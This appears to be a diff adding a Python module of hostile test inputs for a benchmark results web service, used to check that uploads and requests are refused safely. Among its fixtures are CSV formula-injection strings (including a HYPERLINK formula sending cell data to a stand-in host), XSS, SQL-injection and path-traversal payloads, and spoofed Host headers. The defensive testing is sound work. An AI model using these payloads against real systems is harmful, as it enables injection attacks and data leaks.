@@ -1,0 +1,584 @@
+"""Hostile input for the results service, shared by tests/server/hostile/ and
+benchmarks/hostile_service.py.
+
+Pure data: no process is started and nothing is sent here (harness.py does that, against a
+real `flashmark serve` on SQLite and on PostgreSQL). Every case has an id, the same on both
+engines, so a failure is replayed with `python benchmarks/hostile_service.py --only ID`.
+
+    Upload    one body POSTed with a valid token: refused (a 4xx problem naming the field
+              by JSON pointer, nothing stored) or kept (201, then shown everywhere)
+    Request   one request with a hostile target, query or header: answered below 500
+    Scenario  a sequence the harness runs by name (auth, framing, CSV, storage, processes,
+              secrets, bounded pages)
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from dataclasses import dataclass, field
+from functools import cache
+from typing import Any
+
+from tests.conftest import DATA
+
+NUMBERS = "numbers"
+UNICODE = "unicode and controls"
+SIZES = "sizes and lengths"
+SHAPES = "unknown keys, wrong types"
+AUTH = "auth and bad tokens"
+HEADERS = "HTTP headers"
+CSV = "CSV injection"
+STORAGE = "storage faults"
+PROCESSES = "processes"
+SECRETS = "secrets in output"
+CAMPAIGNS = "campaign names and labels"
+CATEGORIES = (
+    NUMBERS, UNICODE, SIZES, SHAPES, AUTH, HEADERS, CSV, STORAGE, PROCESSES, SECRETS, CAMPAIGNS,
+)  # fmt: skip
+ENGINES = ("sqlite", "postgres")
+# The service's default --max-upload-bytes
+MAX_UPLOAD_BYTES = 4 * 1024 * 1024
+_MARKER = '"__HOSTILE__"'
+
+
+def _slug(text: str) -> str:
+    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")
+
+
+@dataclass(frozen=True)
+class Upload:
+    category: str
+    name: str
+    body: bytes
+    refused: bool
+    pointer: str | None = None  # a refusal's JSON pointer (this or a longer one)
+    status: int = 422  # a refusal's status
+    content_type: str = "application/json"
+    dropped: tuple[str, ...] = ()  # a kept upload's unknown keys, as the answer names them
+
+    @property
+    def id(self) -> str:
+        return f"{_slug(self.category)}-{self.name}"
+
+
+@dataclass(frozen=True)
+class Request:
+    category: str
+    name: str
+    method: str
+    target: str
+    headers: tuple[tuple[str, str], ...] = ()
+    body: bytes = b""
+    statuses: frozenset[int] = frozenset({400})
+    never_in_answer: str = ""  # text an answer must not hold (an attacker's host name)
+
+    @property
+    def id(self) -> str:
+        return f"{_slug(self.category)}-{self.name}"
+
+
+@dataclass(frozen=True)
+class Scenario:
+    category: str
+    name: str
+    engines: tuple[str, ...] = ENGINES
+    options: tuple[tuple[str, Any], ...] = field(default=())
+
+    @property
+    def id(self) -> str:
+        return f"{_slug(self.category)}-{self.name}"
+
+
+Case = Upload | Request | Scenario
+
+
+@cache
+def base_text() -> str:
+    """A recorded result of an SD card (quick profile) as JSON text."""
+    return (DATA / "report" / "quick-a1-card.json").read_text()
+
+
+def base_document() -> dict[str, Any]:
+    document: dict[str, Any] = json.loads(base_text())
+    return document
+
+
+def with_value(path: tuple[str | int, ...], raw: str, index: int) -> bytes:
+    """The recorded result with the JSON text `raw` at `path` (raw: so that 1e400 or a lone
+    surrogate escape reach the service as written), made distinct by `index`."""
+    document = distinct(index)
+    where: Any = document
+    for key in path[:-1]:
+        where = where[key]
+    where[path[-1]] = "__HOSTILE__"
+    return json.dumps(document).replace(_MARKER, raw, 1).encode()
+
+
+def distinct(index: int) -> dict[str, Any]:
+    """Another result of the same card: its own start time, so its own content hash."""
+    document = base_document()
+    document["started_at"] = f"2026-02-03T04:05:06.{index:06d}+00:00"
+    return document
+
+
+HOSTNAME = ("host", "hostname")
+MAKER = ("probe", "devices", 0, "card", "manufacturer")
+PRODUCT = ("probe", "devices", 0, "card", "cid", "product_name")
+BOARD = ("probe", "environment", "board")
+PROFILE = ("settings", "profile")
+ELAPSED = ("tests", 0, "elapsed_s")
+CAPACITY = ("probe", "devices", 0, "capacity_bytes")
+
+
+def _refused(category: str, name: str, path: tuple[str | int, ...], raw: str, n: int) -> Upload:
+    return Upload(category, name, with_value(path, raw, n), True, _pointer(path))
+
+
+def _kept(category: str, name: str, path: tuple[str | int, ...], raw: str, n: int) -> Upload:
+    return Upload(category, name, with_value(path, raw, n), False)
+
+
+def _pointer(path: tuple[str | int, ...]) -> str:
+    return "".join(f"/{part}" for part in path)
+
+
+def _invalid_json(category: str, name: str, body: bytes) -> Upload:
+    return Upload(category, name, body, True, status=400)
+
+
+def number_cases() -> list[Case]:
+    big = "9" * 5000
+    return [
+        _refused(NUMBERS, "1e400", ELAPSED, "1e400", 1),
+        _refused(NUMBERS, "minus-1e400", ELAPSED, "-1e400", 2),
+        _refused(NUMBERS, "1e308", ELAPSED, "1E+308", 3),
+        _refused(NUMBERS, "float-beyond-1e18", ("tests", 0, "write", "bw_bytes"), "1.5e19", 4),
+        _refused(NUMBERS, "2-to-64", CAPACITY, str(2**64), 5),
+        _refused(NUMBERS, "below-int64", CAPACITY, str(-(2**63) - 1), 6),
+        _refused(NUMBERS, "int-beyond-1e18-as-float", ELAPSED, str(2**62), 7),
+        _kept(NUMBERS, "int64-max", CAPACITY, str(2**63 - 1), 8),
+        _kept(NUMBERS, "underflow-to-zero", ELAPSED, "1e-400", 9),
+        _kept(NUMBERS, "minus-zero", ("tests", 0, "write", "lat_ns", "min"), "-0.0", 10),
+        _invalid_json(NUMBERS, "5000-digits", with_value(ELAPSED, big, 11)),
+        _invalid_json(NUMBERS, "nan", with_value(ELAPSED, "NaN", 12)),
+        _invalid_json(NUMBERS, "infinity", with_value(ELAPSED, "Infinity", 13)),
+        _invalid_json(NUMBERS, "minus-infinity", with_value(ELAPSED, "-Infinity", 14)),
+        Request(NUMBERS, "query-limit-huge", "GET", "/api/v1/results?limit=" + big[:30]),
+        Request(NUMBERS, "query-before-minus", "GET", "/api/v1/results?before=-1"),
+        Request(NUMBERS, "query-capacity-1e400", "GET", "/api/v1/results?capacity=1e400"),
+        Request(NUMBERS, "result-id-huge", "GET", "/api/v1/results/" + big[:40], statuses=_404),
+        Request(NUMBERS, "device-result-nan", "GET", "/devices/x?result=nan", statuses=_404),
+    ]
+
+
+_404 = frozenset({404})
+
+
+def unicode_cases() -> list[Case]:
+    return [
+        _refused(UNICODE, "lone-surrogate", HOSTNAME, '"vm\\ud800"', 20),
+        _refused(UNICODE, "low-surrogate", MAKER, '"\\udc80Kingston"', 21),
+        _refused(UNICODE, "nul", MAKER, '"Kings\\u0000ton"', 22),
+        _refused(UNICODE, "escape", PRODUCT, '"SD64G\\u001b[2J"', 23),
+        _refused(UNICODE, "c1-nel", BOARD, '"Pi\\u0085 5"', 24),
+        _refused(UNICODE, "del", HOSTNAME, '"vm\\u007f"', 25),
+        _refused(UNICODE, "newline-in-name", HOSTNAME, '"vm\\nx"', 26),
+        _refused(UNICODE, "carriage-return", BOARD, '"Pi\\r5"', 27),
+        _refused(UNICODE, "tab-in-name", MAKER, '"\\tKingston"', 28),
+        _refused(UNICODE, "bidi-override", PRODUCT, '"\\u202eG46DS"', 29),
+        _refused(UNICODE, "bidi-isolate", BOARD, '"\\u2066Pi"', 30),
+        _refused(UNICODE, "nul-in-profile", PROFILE, '"quick\\u0000"', 31),
+        Upload(UNICODE, "nul-in-a-key", with_value(("x",), '{"a\\u0000b": 1}', 32), True, "/x"),
+        _kept(UNICODE, "emoji-and-cjk", MAKER, json.dumps("Kingston 数据 \U0001f600"), 33),
+        _kept(UNICODE, "noncharacter", HOSTNAME, '"vm\\uffff"', 34),
+        _kept(UNICODE, "tab-in-job-file", ("tests", 0, "job"), json.dumps("[x]\n\tbs=4k\n"), 35),
+        _invalid_json(UNICODE, "invalid-utf8", with_value(HOSTNAME, '"vm', 36) + b"\xff"),
+        _invalid_json(
+            UNICODE,
+            "overlong-utf8",
+            with_value(HOSTNAME, '"vm\xc0\xaf"', 37).replace(b"\xc3\x80\xc2\xaf", b"\xc0\xaf"),
+        ),
+        _invalid_json(UNICODE, "utf8-bom", b"\xef\xbb\xbf" + with_value(HOSTNAME, '"vm"', 38)),
+        _invalid_json(UNICODE, "utf16", with_value(HOSTNAME, '"vm"', 39).decode().encode("utf-16")),
+        Request(UNICODE, "query-nul", "GET", "/api/v1/results?maker=%00"),
+        Request(UNICODE, "query-escape", "GET", "/?board=%1b%5b2J"),
+        Request(
+            UNICODE,
+            "query-bad-utf8",
+            "GET",
+            "/api/v1/results?name=%ff%fe",
+            _json(),
+            statuses=frozenset({200}),
+        ),
+        Request(UNICODE, "path-nul", "GET", "/devices/sd%00x", statuses=_404),
+        Request(UNICODE, "path-surrogate", "GET", "/results/%ed%a0%80", statuses=_404),
+    ]
+
+
+def _json() -> tuple[tuple[str, str], ...]:
+    return (("Accept", "application/json"),)
+
+
+def size_cases() -> list[Case]:
+    body = with_value(("x-padding",), json.dumps("x" * MAX_UPLOAD_BYTES), 40)
+    tests = distinct(41)
+    tests["tests"] = tests["tests"] * 50  # 300 tests: the report draws a section per test
+    warnings = distinct(42)
+    warnings["warnings"] = ["w"] * 257
+    deep = '{"x":' * 40 + "1" + "}" * 40
+    return [
+        Upload(SIZES, "body-over-limit", body, True, status=413),
+        _refused(SIZES, "text-4097", HOSTNAME, json.dumps("h" * 4097), 43),
+        _refused(SIZES, "profile-201", PROFILE, json.dumps("p" * 201), 44),
+        _refused(SIZES, "job-file-64k", ("tests", 0, "job"), json.dumps("j" * 65537), 45),
+        Upload(SIZES, "300-tests", json.dumps(tests).encode(), True, "/tests"),
+        Upload(SIZES, "257-warnings", json.dumps(warnings).encode(), True, "/warnings"),
+        Upload(SIZES, "key-129", with_value(("k" * 129,), "1", 46), True, "/"),
+        Upload(SIZES, "nested-40", with_value(("x",), deep, 47), True, "/x"),
+        _invalid_json(SIZES, "nested-100000", b"[" * 100_000 + b"]" * 100_000),
+        _kept(SIZES, "text-4096", HOSTNAME, json.dumps("h" * 4096), 48),
+        _kept(SIZES, "maker-4096", MAKER, json.dumps("M" * 4096), 49),
+        Scenario(SIZES, "chunked-over-limit"),
+        Scenario(SIZES, "content-length-not-a-number"),
+        Scenario(SIZES, "pages-stay-bounded"),
+        Scenario(SIZES, "a-long-series-draws-a-bounded-page"),
+        Scenario(SIZES, "every-read-answers"),
+    ]
+
+
+def shape_cases() -> list[Case]:
+    twice = json.dumps(distinct(50)).replace('"settings": {', '"settings": {"profile": "a1", ')
+    missing = distinct(51)
+    del missing["flashmark_version"]
+    return [
+        Upload(
+            SHAPES,
+            "unknown-top-key",
+            with_value(("x-newer",), '{"a": [1]}', 52),
+            False,
+            dropped=("/x-newer",),
+        ),
+        Upload(
+            SHAPES,
+            "unknown-nested-key",
+            with_value(("settings", "future"), "true", 53),
+            False,
+            dropped=("/settings/future",),
+        ),
+        Upload(
+            SHAPES,
+            "unknown-key-in-a-test",
+            with_value(("tests", 1, "read", "new"), "1", 54),
+            False,
+            dropped=("/tests/1/read/new",),
+        ),
+        _refused(SHAPES, "text-for-number", ("settings", "runtime_s"), '"8"', 55),
+        _refused(SHAPES, "number-for-bool", ("settings", "direct"), "1", 56),
+        _refused(SHAPES, "list-for-text", HOSTNAME, '["a"]', 57),
+        _refused(SHAPES, "object-for-list", ("tests",), '{"not": "a list"}', 58),
+        _refused(SHAPES, "list-for-object", ("tests", 0, "read"), "[]", 59),
+        _refused(SHAPES, "bool-for-number", ELAPSED, "true", 60),
+        _refused(SHAPES, "fraction-for-int", CAPACITY, "1.5", 61),
+        _refused(SHAPES, "unknown-enum", ("tests", 0, "pattern"), '"zzz"', 62),
+        _refused(SHAPES, "list-for-grades", ("grades",), "[]", 63),
+        Upload(SHAPES, "null-target", with_value(("target",), "null", 64), True, ""),
+        Upload(SHAPES, "missing-key", json.dumps(missing).encode(), True, "/flashmark_version"),
+        Upload(SHAPES, "key-twice", twice.encode(), True, "/settings/profile"),
+        Upload(
+            SHAPES,
+            "schema-as-list",
+            with_value(("schema",), '["flashmark.result/1"]', 65),
+            True,
+            "/schema",
+        ),
+        Upload(
+            SHAPES,
+            "newer-schema",
+            with_value(("schema",), '"flashmark.result/2"', 66),
+            True,
+            "/schema",
+        ),
+        Upload(
+            SHAPES,
+            "monitor-schema",
+            with_value(("schema",), '"flashmark.monitor/1"', 67),
+            True,
+            "/schema",
+        ),
+        Upload(SHAPES, "array-body", b"[]", True, ""),
+        Upload(SHAPES, "text-body", b'"text"', True, ""),
+        Upload(SHAPES, "empty-object", b"{}", True, "/schema"),
+        Upload(
+            SHAPES,
+            "form-body",
+            b"a=1",
+            True,
+            status=415,
+            content_type="application/x-www-form-urlencoded",
+        ),
+        Upload(SHAPES, "empty-body", b"", True, status=400),
+    ]
+
+
+def auth_cases() -> list[Case]:
+    return [
+        Scenario(AUTH, "missing-token"),
+        Scenario(AUTH, "wrong-token"),
+        Scenario(AUTH, "basic-scheme"),
+        Scenario(AUTH, "sql-in-token"),
+        Scenario(AUTH, "token-10k"),
+        Scenario(AUTH, "revoked-token"),
+        Scenario(AUTH, "bad-tokens-are-slowed"),
+        Scenario(AUTH, "missing-tokens-are-not-counted"),
+    ]
+
+
+def header_cases() -> list[Case]:
+    evil = (("Host", "evil.example"),)
+    return [
+        Request(HEADERS, "host-evil-api", "GET", "/api/v1", evil, never_in_answer="//evil"),
+        Request(
+            HEADERS, "host-evil-list", "GET", "/api/v1/results", evil, never_in_answer="//evil"
+        ),
+        Request(
+            HEADERS,
+            "host-evil-page",
+            "GET",
+            "/",
+            (*evil, ("Accept", "text/html")),
+            never_in_answer="//evil",
+        ),
+        Request(
+            HEADERS, "host-evil-csv", "GET", "/api/v1/export.csv", evil, never_in_answer="//evil"
+        ),
+        Request(
+            HEADERS,
+            "host-userinfo",
+            "GET",
+            "/api/v1",
+            (("Host", "127.0.0.1@evil.example"),),
+            never_in_answer="//evil",
+        ),
+        Request(
+            HEADERS,
+            "host-with-path",
+            "GET",
+            "/api/v1",
+            (("Host", "evil.example/x"),),
+            never_in_answer="//evil",
+        ),
+        Request(
+            HEADERS,
+            "forwarded-host",
+            "GET",
+            "/api/v1",
+            (("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil.example")),
+            statuses=frozenset({200}),
+            never_in_answer="evil",
+        ),
+        Scenario(HEADERS, "host-evil-upload-stores-nothing"),
+        Scenario(HEADERS, "no-host-header"),
+        Scenario(HEADERS, "trusted-host-links"),
+        Scenario(HEADERS, "every-answer-refuses-framing"),
+    ]
+
+
+# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection, with the full-width
+# forms), and where it may start a cell inside a text: the separators it offers, line ends,
+# the double quote.
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+CSV_BOUNDARIES = (",", ";", "\t", "|", "\r", "\n", '"')
+CSV_TEXTS = (
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    " =1+1",
+    "a;=1+1",
+    "a,=1+1",
+    'a"=1+1',
+    "a|=1+1",
+    "a; -2+3",
+    "\uff1d1+1",
+    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
+)
+
+
+def csv_cases() -> list[Case]:
+    return [
+        *(
+            Scenario(CSV, f"text-{index}", options=(("text", text),))
+            for index, text in enumerate(CSV_TEXTS)
+        ),
+        Scenario(CSV, "local-export"),
+    ]
+
+
+def storage_cases() -> list[Case]:
+    return [
+        Scenario(STORAGE, "folder-removed-then-restored", ("sqlite",)),
+        Scenario(STORAGE, "file-replaced-by-garbage", ("sqlite",)),
+        Scenario(STORAGE, "file-replaced-by-a-copy", ("sqlite",)),
+        Scenario(STORAGE, "file-removed-reads", ("sqlite",)),
+        Scenario(STORAGE, "server-restarted", ("postgres",)),
+        Scenario(STORAGE, "connections-terminated", ("postgres",)),
+        Scenario(STORAGE, "database-dropped-reads", ("postgres",)),
+        Scenario(STORAGE, "server-restarted-during-uploads", ("postgres",)),
+    ]
+
+
+def process_cases() -> list[Case]:
+    return [
+        Scenario(PROCESSES, "sigkill-leaves-nothing", ("sqlite",)),
+        Scenario(PROCESSES, "second-service-refused", ("sqlite",)),
+        Scenario(PROCESSES, "workers-end-with-killed-parent", ("postgres",)),
+        Scenario(PROCESSES, "restart-after-killed-parent", ("postgres",)),
+        Scenario(PROCESSES, "second-service-beside-workers-refused", ("postgres",)),
+        Scenario(PROCESSES, "sigterm-stops-workers", ("postgres",)),
+    ]
+
+
+# --database values with a password nothing listens for (port 1; a socket folder that is not
+# there), each with its own password so that every form is looked for in the output.
+UNREACHABLE = (
+    ("url", "postgresql://u:S3cretPW1@127.0.0.1:1/db", ("S3cretPW1",)),
+    ("postgres-scheme", "postgres://u:S3cretPW2@127.0.0.1:1/db", ("S3cretPW2",)),
+    ("percent-encoded", "postgresql://u:S3cr%40tPW3@127.0.0.1:1/db", ("S3cr%40tPW3", "S3cr@tPW3")),
+    ("query", "postgresql://u@127.0.0.1:1/db?password=S3cretPW4", ("S3cretPW4",)),
+    ("conninfo", "host=127.0.0.1 port=1 user=u password=S3cretPW5 dbname=db", ("S3cretPW5",)),
+    ("conninfo-quoted", "host=/nowhere port=1 password='S3cret PW6' dbname=db", ("S3cret PW6",)),
+    ("conninfo-malformed", "host=127.0.0.1 password S3cretPW7", ("S3cretPW7",)),
+)
+
+
+def secret_cases() -> list[Case]:
+    return [
+        *(
+            Scenario(
+                SECRETS, f"unreachable-{name}", options=(("database", url), ("secrets", forms))
+            )
+            for name, url, forms in UNREACHABLE
+        ),
+        Scenario(SECRETS, "token-never-logged"),
+        Scenario(SECRETS, "live-password-url", ("postgres",)),
+    ]
+
+
+def in_campaign(index: int, campaign: Any = "hostile", label: Any = "board-1") -> dict[str, Any]:
+    """A result uploaded into a campaign (flashmark upload --campaign --label)."""
+    return {**distinct(index), "campaign": campaign, "board_label": label}
+
+
+def _campaign_refused(name: str, field: str, value: Any, index: int) -> Upload:
+    document = in_campaign(index)
+    if value is _ABSENT:
+        del document[field]
+    else:
+        document[field] = value
+    # A missing one is named as the field that is wrong, like a bad one.
+    return Upload(CAMPAIGNS, name, json.dumps(document).encode(), True, f"/{field}")
+
+
+def _campaign_kept(name: str, campaign: str, label: str, index: int) -> Upload:
+    return Upload(CAMPAIGNS, name, json.dumps(in_campaign(index, campaign, label)).encode(), False)
+
+
+_ABSENT = object()
+
+
+def campaign_cases() -> list[Case]:
+    """Campaign names (part of addresses) and board labels (in every row of a campaign page and
+    its CSV), each checked apart from the document: refused naming the field, or kept and
+    shown on every page of its campaign."""
+    refused = [
+        ("campaign-nul", "campaign", "lab\u0000"),
+        ("campaign-escape", "campaign", "lab\u001b[2J"),
+        ("campaign-bidi-override", "campaign", "lab\u202e1"),
+        ("campaign-newline", "campaign", "lab\n1"),
+        ("campaign-traversal", "campaign", "../etc"),
+        ("campaign-slash", "campaign", "a/b"),
+        ("campaign-dot-dot", "campaign", ".."),
+        ("campaign-65", "campaign", "c" * 65),
+        ("campaign-empty", "campaign", ""),
+        ("campaign-blank", "campaign", " lab"),
+        ("campaign-html", "campaign", "<script>alert(1)</script>"),
+        ("campaign-sql", "campaign", "x';DROP TABLE results;--"),
+        ("campaign-percent", "campaign", "lab%2F1"),
+        ("campaign-number", "campaign", 7),
+        ("campaign-list", "campaign", ["lab"]),
+        ("campaign-object", "campaign", {"name": "lab"}),
+        ("campaign-true", "campaign", True),
+        ("label-nul", "board_label", "board\u0000"),
+        ("label-escape", "board_label", "board\u001b]0;x\u0007"),
+        ("label-c1", "board_label", "board\u0085"),
+        ("label-bidi-isolate", "board_label", "\u2066board"),
+        ("label-zero-width-joiner", "board_label", "bo\u200dard"),
+        ("label-combining-mark", "board_label", "e\u0301"),
+        ("label-65", "board_label", "b" * 65),
+        ("label-empty", "board_label", ""),
+        ("label-html", "board_label", "<img src=x onerror=alert(1)>"),
+        ("label-formula", "board_label", "=1+1"),
+        ("label-formula-at", "board_label", "@SUM(A1)"),
+        ("label-formula-minus", "board_label", "-2+3"),
+        ("label-formula-full-width", "board_label", "\uff1d1+1"),
+        ("label-ipv4", "board_label", "192.168.1.7"),
+        ("label-ipv6", "board_label", "fe80::1"),
+        ("label-mac", "board_label", "b8:27:eb:12:34:56"),
+        ("label-email", "board_label", "pi@lab.example"),
+        ("label-path", "board_label", "/home/pi"),
+        ("label-serial", "board_label", "board-deadbeef01"),
+        ("label-number", "board_label", 7),
+        ("campaign-without-label", "board_label", _ABSENT),
+        ("label-without-campaign", "campaign", _ABSENT),
+    ]
+    return [
+        *(
+            _campaign_refused(name, field, value, 3000 + index)
+            for index, (name, field, value) in enumerate(refused)
+        ),
+        _campaign_kept("label-cjk", "hostile-kept", "ボード-07", 3100),
+        _campaign_kept("label-64", "hostile-kept", "w" * 64, 3101),
+        _campaign_kept("campaign-64", "c" * 64, "board-1", 3102),
+        _campaign_kept("label-all-signs", "hostile-kept", "board_07.a:1+2-3", 3103),
+        Request(CAMPAIGNS, "page-nul", "GET", "/campaigns/%00", statuses=_404),
+        Request(CAMPAIGNS, "page-traversal", "GET", "/campaigns/..%2F..%2Fetc", statuses=_404),
+        Request(CAMPAIGNS, "api-escape", "GET", "/api/v1/campaigns/%1b%5b2J", statuses=_404),
+        Request(CAMPAIGNS, "api-65", "GET", "/api/v1/campaigns/" + "x" * 65, statuses=_404),
+        Request(CAMPAIGNS, "page-html", "GET", "/campaigns/%3Cscript%3E", statuses=_404),
+        Request(CAMPAIGNS, "api-sql", "GET", "/api/v1/campaigns/x'%20OR%20'1'='1", statuses=_404),
+        Request(CAMPAIGNS, "api-surrogate", "GET", "/api/v1/campaigns/%ed%a0%80", statuses=_404),
+        Request(
+            CAMPAIGNS, "csv-unknown", "GET", "/api/v1/campaigns/none/export.csv", statuses=_404
+        ),
+        Request(
+            CAMPAIGNS, "post-to-campaign", "POST", "/api/v1/campaigns/x", statuses=frozenset({405})
+        ),
+        Scenario(CAMPAIGNS, "campaign-job-differs"),
+        Scenario(CAMPAIGNS, "campaign-of-another-token"),
+        Scenario(CAMPAIGNS, "hostile-texts-on-a-campaign-page"),
+    ]
+
+
+def all_cases() -> dict[str, list[Case]]:
+    return {
+        NUMBERS: number_cases(),
+        UNICODE: unicode_cases(),
+        SIZES: size_cases(),
+        SHAPES: shape_cases(),
+        AUTH: auth_cases(),
+        HEADERS: header_cases(),
+        CSV: csv_cases(),
+        STORAGE: storage_cases(),
+        PROCESSES: process_cases(),
+        SECRETS: secret_cases(),
+        CAMPAIGNS: campaign_cases(),
+    }
+
+
+def engines_of(case: Case) -> tuple[str, ...]:
+    return case.engines if isinstance(case, Scenario) else ENGINES
+
+
+def cases_for(engine: str) -> list[Case]:
+    return [case for cases in all_cases().values() for case in cases if engine in engines_of(case)]
